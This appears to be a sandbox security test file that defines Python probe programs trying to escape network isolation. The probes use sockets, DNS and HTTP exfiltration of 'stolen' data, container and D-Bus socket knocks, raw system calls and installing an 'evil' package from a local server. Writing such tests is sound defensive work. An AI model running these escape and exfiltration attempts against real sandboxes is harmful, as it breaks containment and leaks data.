import type { HostileProgram } from "./hostile-program.ts";
import { pythonAttacks } from "./python-attack.ts";

export const pythonNetwork: readonly HostileProgram[] = pythonAttacks("network", [
  {
    name: "tcp-connect",
    goal: "a TCP connection to a port of the host",
    reachesBare: true,
    body: `
import socket
for host in ("127.0.0.1", "localhost", "::ffff:127.0.0.1", "0.0.0.0"):
    attempt(lambda: socket.create_connection((host, world["tcpPort"]), 2).recv(4096))`,
  },
  {
    name: "tcp-non-blocking",
    goal: "a TCP connection by connect_ex on a socket that does not block",
    reachesBare: true,
    body: `
import socket, select
one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
one.setblocking(False)
said.append(one.connect_ex(("127.0.0.1", world["tcpPort"])))
attempt(lambda: select.select([], [one], [], 2))
attempt(lambda: one.send(b"GET / HTTP/1.0\\r\\n\\r\\n"))
attempt(lambda: select.select([one], [], [], 2) and one.recv(4096))`,
  },
  {
    name: "tcp-asyncio",
    goal: "a TCP connection made by the event loop",
    reachesBare: true,
    body: `
import asyncio
async def go():
    reader, writer = await asyncio.open_connection("127.0.0.1", world["tcpPort"])
    return await reader.read(4096)
attempt(lambda: asyncio.run(asyncio.wait_for(go(), 3)))`,
  },
  {
    name: "http-urllib",
    goal: "a page of the host's web server",
    reachesBare: true,
    body: `
import urllib.request
return urllib.request.urlopen("http://127.0.0.1:%d/" % world["tcpPort"], timeout=2).read().decode()`,
  },
  {
    name: "http-client",
    goal: "a request sent to the host's web server, with data in its path",
    reachesBare: true,
    body: `
import http.client
connection = http.client.HTTPConnection("127.0.0.1", world["tcpPort"], timeout=2)
connection.request("POST", "/stolen", body=b"data")
return connection.getresponse().status`,
  },
  {
    name: "mail-and-file-transfer",
    goal: "a connection by the mail, file transfer and remote call clients of the library",
    reachesBare: true,
    body: `
import ftplib, imaplib, smtplib, poplib, xmlrpc.client
port = world["tcpPort"]
attempt(lambda: smtplib.SMTP("127.0.0.1", port, timeout=1))
attempt(lambda: ftplib.FTP().connect("127.0.0.1", port, 1))
attempt(lambda: imaplib.IMAP4("127.0.0.1", port, 1))
attempt(lambda: poplib.POP3("127.0.0.1", port, 1))
attempt(lambda: xmlrpc.client.ServerProxy("http://127.0.0.1:%d" % port).stolen())`,
  },
  {
    name: "udp-send",
    goal: "a datagram at a port of the host",
    reachesBare: true,
    body: `
import socket
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt(lambda: one.sendto(b"stolen", ("127.0.0.1", world["udpPort"])))
attempt(lambda: one.sendmsg([b"stolen"], [], 0, ("127.0.0.1", world["udpPort"])))`,
  },
  {
    name: "dns-query",
    goal: "a name asked for at a name server, which carries data out",
    reachesBare: true,
    body: `
import socket, struct
question = b"".join(bytes([len(part)]) + part for part in (b"stolen", b"example", b"invalid")) + b"\\0"
packet = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + question + struct.pack(">2H", 1, 1)
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
one.connect(("127.0.0.1", world["dnsPort"]))
one.send(packet)`,
  },
  {
    name: "dns-resolver",
    goal: "a name resolved by the system to an address that is not this machine's",
    body: `
import socket
def look_up():
    addresses = {entry[4][0] for entry in socket.getaddrinfo("example.com", 80)}
    # Emscripten invents addresses of its own, 172.29.x.y, for any name.
    if any(not str(address).startswith("172.29.") for address in addresses):
        reached()
    return addresses
attempt(look_up)`,
  },
  {
    name: "unix-socket-path",
    goal: "a service of the host at a unix socket in a folder",
    reachesBare: true,
    body: `
import socket
one = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
one.settimeout(2)
one.connect(world["unixSocketPath"])
return one.recv(4096).decode()`,
  },
  {
    name: "unix-socket-abstract",
    goal: "a service of the host at an abstract unix socket",
    reachesBare: true,
    body: `
import socket
one = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
one.settimeout(2)
one.connect("\\0" + world["abstractSocketName"])
return one.recv(4096).decode()`,
  },
  {
    name: "system-services",
    goal: "the container service, the message bus or the session of the host's user",
    body: `
import socket
for path in ("/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/user/0/bus", "\\0/tmp/.X11-unix/X0", "/tmp/.X11-unix/X0"):
    def knock():
        one = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        one.settimeout(1)
        one.connect(path)
        reached()
    attempt(knock)`,
  },
  {
    name: "tcp-listen",
    goal: "a port of the host on which the program answers",
    reachesBare: true,
    body: `
import socket
one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
globals()["held"] = one
attempt(lambda: one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1))
one.bind(("0.0.0.0", world["listenPort"]))
one.listen(5)
return "listening"`,
  },
  {
    name: "http-server",
    goal: "a web server on a port of the host",
    reachesBare: true,
    body: `
import http.server, threading
server = http.server.ThreadingHTTPServer(("127.0.0.1", world["listenPort"]), http.server.SimpleHTTPRequestHandler)
globals()["held"] = server
threading.Thread(target=server.serve_forever, daemon=True).start()
return "serving"`,
  },
  {
    name: "unix-socket-listen",
    goal: "a unix socket in a folder of the host",
    reachesBare: true,
    body: `
import socket
one = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
globals()["held"] = one
one.bind(world["writeFolder"] + "/s")
one.listen(1)`,
  },
  {
    name: "raw-socket",
    goal: "a raw packet on the host's network",
    body: `
import socket
def raw(family, kind, protocol, data, where):
    one = socket.socket(family, kind, protocol)
    one.sendto(data, where)
    reached()
attempt(lambda: raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", ("127.0.0.1", 0)))
attempt(lambda: raw(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3), bytes(60), ("eth0", 0)))`,
  },
  {
    name: "netlink-socket",
    goal: "an answer of the kernel about its network devices",
    body: `
import socket, struct
one = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
one.settimeout(2)
one.send(struct.pack("=IHHII", 32, 18, 0x301, 1, 0) + bytes(16))
if len(one.recv(65536)) > 20:
    reached()`,
  },
  {
    name: "odd-socket-families",
    goal: "a socket to the hypervisor, the kernel's ciphers, Bluetooth or a CAN bus",
    body: `
import socket
for family, kind in ((40, socket.SOCK_STREAM), (38, 5), (31, 3), (29, 3), (44, 3), (15, 3), (21, 5), (30, 5)):
    def create():
        socket.socket(family, kind, 0)
        reached()
    attempt(create)`,
  },
  {
    name: "tcp-by-system-call",
    goal: "a TCP connection by the numbers of socket and connect",
    reachesBare: true,
    body: `
import ctypes, struct
number = system_call(41, 198, 2, 1, 0)
said.append(number)
address = struct.pack("<H", 2) + struct.pack(">H", world["tcpPort"]) + bytes([127, 0, 0, 1]) + bytes(8)
said.append(system_call(42, 203, number, address, 16))`,
  },
  {
    name: "tcp-by-library-call",
    goal: "a TCP connection by the C library's own functions",
    reachesBare: true,
    body: `
import ctypes, struct
libc = ctypes.CDLL(None)
address = struct.pack("<H", 2) + struct.pack(">H", world["tcpPort"]) + bytes([127, 0, 0, 1]) + bytes(8)
number = libc.socket(2, 1, 0)
said.append(libc.connect(number, address, 16))
buffer = ctypes.create_string_buffer(4096)
said.append(libc.recv(number, buffer, 4096, 0))
said.append(buffer.value.decode())`,
  },
  {
    name: "fetch-from-javascript",
    goal: "a request to the host by fetch, XMLHttpRequest or WebSocket of the engine",
    body: `
port = world["tcpPort"]
url = "http://127.0.0.1:%d/" % port
def module():
    import js
    return js.fetch(url)
attempt(module)
def constructors():
    from js import XMLHttpRequest
    request = XMLHttpRequest.new()
    request.open("GET", url, False)
    request.send()
    return request.responseText
attempt(constructors)
def web_socket():
    from js import WebSocket
    return WebSocket.new("ws://127.0.0.1:%d/" % port)
attempt(web_socket)
import time
time.sleep(0.3)`,
  },
  {
    name: "pyodide-http",
    goal: "a request to the host by Pyodide's own functions for it",
    body: `
import asyncio
url = "http://127.0.0.1:%d/" % world["tcpPort"]
def open_url():
    from pyodide.http import open_url
    return open_url(url).read()
attempt(open_url)
async def fetch():
    from pyodide.http import pyfetch
    return await (await pyfetch(url)).string()
attempt(lambda: asyncio.run(fetch()))
def requests():
    import pyodide.http.pyxhr
    return pyodide.http.pyxhr.get(url).text
attempt(requests)`,
  },
  {
    name: "install-package",
    goal: "a package fetched from a server of the host",
    body: `
import asyncio
url = "http://127.0.0.1:%d/evil-1.0-py3-none-any.whl" % world["tcpPort"]
async def install():
    import micropip
    await micropip.install(url)
attempt(lambda: asyncio.run(install()))
async def load():
    import pyodide_js
    await pyodide_js.loadPackage(url)
attempt(lambda: asyncio.run(load()))
attempt(lambda: __import__("pip").main(["install", url]))`,
  },
]);
